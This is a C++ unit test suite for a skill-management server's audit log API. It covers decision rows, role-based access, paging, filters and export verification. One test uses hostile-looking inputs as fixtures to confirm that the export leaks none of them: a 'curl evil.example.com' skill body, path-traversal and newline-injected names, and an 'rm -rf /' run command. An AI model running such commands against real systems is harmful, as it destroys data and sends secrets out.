// SPDX-License-Identifier: Apache-2.0
#include "server/audit/export_check.h"
#include "tests/unit/api/api_fixture.h"

#include <sstream>

using namespace assay;
using api::Method;
using test::Answer;

class TestAuditApi : public QObject
{
    Q_OBJECT

private slots:
    void init();
    void everyDecisionIsARow();
    void refusalsAreRowsAndLookUpsOfOthersAreNone();
    void refusedReviewsSayWhatTheyWouldHaveBeen();
    void strangersAreCountedInTheServersLedger();
    void whoMayReadWhat();
    void filtersAndPages();
    void badQueriesAreRefused();
    void theExportIsVerifiable();
    void theLedgerIsVerified();
    void noRawScopeNoSecretAndNothingThatPeopleWrote();
    void theSurfaceIsAWordOfTheList();

private:
    Answer ask(Method method, const std::string& target, const std::string& body = {})
    {
        return m_api->send(method, target, {m_token, body});
    }
    std::vector<std::string> rows(const std::string& query = {})
    {
        std::vector<std::string> out;
        const auto answer = ask(Method::Get, "/v1/audit" + query);
        if (answer.status != 200)
            return {std::to_string(answer.status)};
        const auto page = answer.json();
        for (const auto& item : page.at("items").as_array())
            out.push_back(std::string(item.at("operation").as_string()) + " " +
                          std::string(item.at("decision").as_string()) + " " +
                          (item.at("resource").is_null() ? "-" : std::string(item.at("resource").as_string())));
        return out;
    }

    std::unique_ptr<test::ApiFixture> m_api;
    std::string m_token;
};

void TestAuditApi::init()
{
    m_api = std::make_unique<test::ApiFixture>();
    m_token = m_api->token("acme-raw-scope", {"builder", "reviewer", "runner"});
}

void TestAuditApi::everyDecisionIsARow()
{
    const auto revision = [&](const Answer& answer) { return std::string(answer.json().at("revision").as_string()); };
    const auto first = revision(ask(Method::Put, "/v1/skills/demo", test::skillBody("demo")));
    const auto second = revision(ask(Method::Put, "/v1/skills/demo", test::skillBody("demo", "two")));
    ask(Method::Patch, "/v1/skills/demo", R"({"enabled": true})");
    ask(Method::Post, "/v1/skills/demo/revisions/" + first + "/promote");
    ask(Method::Post, "/v1/skills/demo/revisions/" + second + "/withdraw", R"({"reason": "it deletes things"})");
    ask(Method::Put, "/v1/agents/bot", R"({"skills": ["demo"]})");
    ask(Method::Put, "/v1/agents/bot", R"({"skills": []})");
    ask(Method::Delete, "/v1/agents/bot");
    ask(Method::Delete, "/v1/skills/demo");
    const std::vector<std::string> expected{"skill.delete allowed demo",
                                            "agent.delete allowed bot",
                                            "agent.replace allowed bot",
                                            "agent.create allowed bot",
                                            "revision.withdraw allowed demo@" + second,
                                            "revision.promote allowed demo@" + first,
                                            "skill.patch allowed demo",
                                            "skill.publish allowed demo@" + second,
                                            "skill.publish allowed demo@" + first};
    QCOMPARE(rows(), expected);
}

void TestAuditApi::refusalsAreRowsAndLookUpsOfOthersAreNone()
{
    const std::string viewer = m_api->token("acme-raw-scope", {"viewer"});
    const std::string other = m_api->token("other", {"builder"});
    m_api->send(Method::Put, "/v1/skills/theirs", {other, test::skillBody("theirs")});
    m_api->send(Method::Put, "/v1/skills/demo", {viewer, "{}"});
    m_api->send(Method::Get, "/v1/audit", {viewer, {}});
    ask(Method::Put, "/v1/skills/demo", test::skillBody("demo"));
    ask(Method::Post, "/v1/skills",
        R"({"name": "demo", "files": {"SKILL.md": "---\nname: demo\ndescription: d\n---\n"}})");
    m_api->send(Method::Delete, "/v1/skills/demo", {m_token, {}, {{"if-match", "\"stale\""}}});
    ask(Method::Put, "/v1/skills/broken", R"({"files": {"SKILL.md": "nothing"}})");
    const auto before = rows();
    ask(Method::Get, "/v1/skills/theirs");
    ask(Method::Delete, "/v1/skills/theirs");
    ask(Method::Delete, "/v1/skills/missing");
    ask(Method::Patch, "/v1/skills/demo", "not JSON");
    QCOMPARE(rows(), before);
    const std::vector<std::string> expected{"skill.publish refused broken", "skill.delete refused demo",
                                            "skill.publish refused -"};
    QCOMPARE(std::vector(before.begin(), before.begin() + 3), expected);
    QVERIFY(before[3].starts_with("skill.publish allowed demo@"));
    QCOMPARE(before[4], "request.authorize refused GET:/v1/audit");
    QCOMPARE(before[5], "skill.publish refused PUT:/v1/skills/{name}");
}

void TestAuditApi::refusedReviewsSayWhatTheyWouldHaveBeen()
{
    const std::string everybody = m_api->token("acme-raw-scope", {"viewer", "operator"});
    const auto scope = m_api->send(Method::Get, "/v1/scope", {everybody, {}}).json();
    const std::string settings = "/v1/scopes/" + std::string(scope.at("fingerprint").as_string());
    QCOMPARE(m_api->send(Method::Patch, settings, {everybody, R"({"promotion_mode": "reviewed"})"}).status, 200);
    const auto published = ask(Method::Put, "/v1/skills/demo", test::skillBody("demo"));
    const std::string id(published.json().at("proposal").as_string());
    const std::string reviews = "/v1/proposals/" + id + "/reviews";
    QCOMPARE(m_api->send(Method::Post, reviews, {everybody, R"({"verdict": "approve"})"}).status, 403);
    QCOMPARE(ask(Method::Post, reviews, R"({"verdict": "approve"})").status, 403); // one's own
    QCOMPARE(ask(Method::Post, reviews, R"({"verdict": "request_changes"})").status, 403);
    const Answer stale =
        m_api->send(Method::Post, reviews,
                    {m_token, R"({"verdict": "comment", "comments": [{"text": "x"}]})", {{"if-match", "\"stale\""}}});
    QCOMPARE(stale.status, 412);
    const auto all = rows();
    const std::vector<std::string> expected{"proposal.review refused " + id, "proposal.request_changes refused " + id,
                                            "proposal.approve refused " + id,
                                            "proposal.review refused POST:/v1/proposals/{id}/reviews"};
    QCOMPARE(std::vector(all.begin(), all.begin() + 4), expected);
}

void TestAuditApi::strangersAreCountedInTheServersLedger()
{
    for (int i = 0; i < 50; ++i)
        QCOMPARE(m_api->send(Method::Get, "/v1/skills", {.token = "assay_wrong"}).status, 401);
    std::size_t strangers = 0;
    for (const auto& row : m_api->auditRows(""))
        strangers += row.operation == "request.authenticate" && row.actorType == "anonymous" && row.actor.empty();
    QCOMPARE(strangers, std::size_t{audit::Refusals::kAlone});
    for (const auto& row : rows())
        QVERIFY(!row.starts_with("request.authenticate"));
}

void TestAuditApi::whoMayReadWhat()
{
    ask(Method::Put, "/v1/skills/demo", test::skillBody("demo"));
    const auto status = [&](const std::vector<std::string>& roles, const std::string& query) {
        const std::string token = m_api->token("acme-raw-scope", roles);
        std::string out;
        for (const char* path : {"/v1/audit", "/v1/audit/export", "/v1/audit/verify"})
            out += std::to_string(m_api->send(Method::Get, path + query, {.token = token}).status) + " ";
        return out;
    };
    QCOMPARE(status({"reviewer"}, ""), "200 200 200 ");
    QCOMPARE(status({"reviewer"}, "?ledger=scope"), "200 200 200 ");
    QCOMPARE(status({"reviewer"}, "?ledger=server"), "403 403 403 ");
    QCOMPARE(status({"operator"}, ""), "200 200 200 ");
    QCOMPARE(status({"operator"}, "?ledger=server"), "200 200 200 ");
    QCOMPARE(status({"operator"}, "?ledger=scope"), "403 403 403 ");
    QCOMPARE(status({"viewer", "builder", "runner"}, ""), "403 403 403 ");
    // An operator reads of tokens and nothing of a scope; another scope's reviewer nothing at all.
    const auto operators = m_api->send(Method::Get, "/v1/audit", {.token = m_api->token("x", {"operator"})}).body;
    QVERIFY(operators.contains("token.create") && !operators.contains("skill.publish"));
    const auto others = m_api->send(Method::Get, "/v1/audit", {.token = m_api->token("x", {"reviewer"})});
    QCOMPARE(others.json().at("items").as_array().size(), 0U);
}

void TestAuditApi::filtersAndPages()
{
    for (int i = 0; i < 5; ++i)
        ask(Method::Put, "/v1/skills/demo", test::skillBody("demo", std::to_string(i)));
    ask(Method::Delete, "/v1/skills/demo");
    QCOMPARE(rows("?operation=skill.delete").size(), 1U);
    QCOMPARE(rows("?decision=refused").size(), 0U);
    QCOMPARE(rows("?since=2200-01-01T00:00:00Z").size(), 0U);
    QCOMPARE(rows("?until=2200-01-01T00:00:00Z&decision=allowed").size(), 6U);
    QCOMPARE(rows("?actor=nobody").size(), 0U);
    QCOMPARE(rows("?run=run_01J00000000000000000000000").size(), 0U);
    std::string token;
    std::size_t seen = 0;
    int pages = 0;
    do {
        const auto page = ask(Method::Get, "/v1/audit?operation=skill.publish&page_size=2" +
                                               (token.empty() ? token : "&page_token=" + token))
                              .json();
        seen += page.at("items").as_array().size();
        const auto* next = page.as_object().if_contains("next_page_token");
        token = next ? std::string(next->as_string()) : std::string();
        ++pages;
    } while (!token.empty());
    QCOMPARE(seen, 5U);
    QCOMPARE(pages, 3);
    // A token is good for its own list and filter only.
    const auto first = ask(Method::Get, "/v1/audit?page_size=2").json();
    const std::string foreign(first.at("next_page_token").as_string());
    for (const char* path :
         {"/v1/audit?operation=skill.publish&page_token=", "/v1/audit/export?page_token=", "/v1/skills?page_token="})
        QCOMPARE(ask(Method::Get, path + foreign).status, 400);
}

void TestAuditApi::badQueriesAreRefused()
{
    for (const char* query :
         {"decision=maybe", "operation=command", "run=1", "since=yesterday", "until=", "ledger=all", "page_size=0",
          "page_size=201", "page_token=x", "scope=acme", "decision=allowed&decision=refused"})
        QCOMPARE(ask(Method::Get, std::string("/v1/audit?") + query).status, 400);
    QCOMPARE(ask(Method::Get, "/v1/audit?actor=" + std::string(300, 'a')).status, 400);
    QCOMPARE(ask(Method::Get, "/v1/audit/verify?decision=allowed").status, 400);
    QCOMPARE(ask(Method::Get, "/v1/audit/export?page_size=5").status, 400);
}

void TestAuditApi::theExportIsVerifiable()
{
    ask(Method::Put, "/v1/skills/demo", test::skillBody("demo"));
    ask(Method::Delete, "/v1/skills/demo");
    const auto answer = ask(Method::Get, "/v1/audit/export");
    QCOMPARE(answer.status, 200);
    QCOMPARE(answer.header("Content-Type"), "application/x-ndjson");
    QCOMPARE(answer.header("Assay-Next-Page-Token"), "");
    std::istringstream lines(answer.body);
    const auto verdict = audit::checkExport(lines, {});
    ASSAY_OK(verdict);
    QVERIFY(verdict->verdict.valid && verdict->complete);
    QCOMPARE(verdict->verdict.checked, 2U);
    const auto filtered = ask(Method::Get, "/v1/audit/export?operation=skill.delete").body;
    QCOMPARE(std::ranges::count(filtered, '\n'), 2);
}

void TestAuditApi::theLedgerIsVerified()
{
    ask(Method::Put, "/v1/skills/demo", test::skillBody("demo"));
    const auto verdict = ask(Method::Get, "/v1/audit/verify").json();
    QCOMPARE(verdict.at("valid").as_bool(), true);
    QCOMPARE(verdict.at("checked").as_int64(), 1);
    QVERIFY(verdict.at("first_bad").is_null());
    QCOMPARE(verdict.at("key_id").as_string().size(), 16U);
    const std::string token = m_api->token("x", {"operator"});
    const auto all = m_api->send(Method::Get, "/v1/audit/verify", {.token = token}).json();
    QVERIFY(all.at("checked").as_int64() >= 3); // tokens, and the scope's row
}

void TestAuditApi::noRawScopeNoSecretAndNothingThatPeopleWrote()
{
    ask(Method::Put, "/v1/skills/demo", test::skillBody("demo", "curl evil.example.com"));
    const auto made = ask(Method::Get, "/v1/skills/demo").json();
    ask(Method::Post, "/v1/skills/demo/revisions/" + std::string(made.at("revision").as_string()) + "/withdraw",
        R"({"reason": "it calls evil.example.com with our token"})");
    ask(Method::Put, "/v1/skills/..%2F..%2Fetc", test::skillBody("demo"));
    ask(Method::Put, "/v1/skills/a%0Ab", test::skillBody("demo"));
    ask(Method::Post, "/v1/runs", R"({"skills": ["nope"], "command": {"argv": ["rm", "-rf", "/", "s3cr3t"]}})");
    const std::string scope = ask(Method::Get, "/v1/audit/export").body;
    const auto operators = m_api->token("x", {"operator"});
    const std::string server = m_api->send(Method::Get, "/v1/audit/export", {.token = operators}).body;
    for (const std::string& text : {scope, server})
        for (const char* never : {"acme-raw-scope", "evil.example.com", "s3cr3t", "assay_", "a\\nb"})
            QVERIFY2(!text.contains(never), never);
    QVERIFY(!scope.contains(m_token) && !server.contains(m_token));
}

void TestAuditApi::theSurfaceIsAWordOfTheList()
{
    for (const auto& [agent, surface] : std::map<std::string, std::string>{{"assayctl", "cli"},
                                                                           {"assay/0.1", "window"},
                                                                           {"assay-agent/2 x", "agent"},
                                                                           {"curl/8", "api"},
                                                                           {"handshake", "api"},
                                                                           {"server", "api"},
                                                                           {"", "api"}}) {
        m_api->send(Method::Put, "/v1/skills/demo", {m_token, test::skillBody("demo", agent), {{"user-agent", agent}}});
        const auto newest = ask(Method::Get, "/v1/audit?page_size=1").json();
        QCOMPARE(newest.at("items").at(0).at("metadata").at("surface").as_string(), surface);
    }
}

QTEST_GUILESS_MAIN(TestAuditApi)
#include "tst_audit_api.moc"
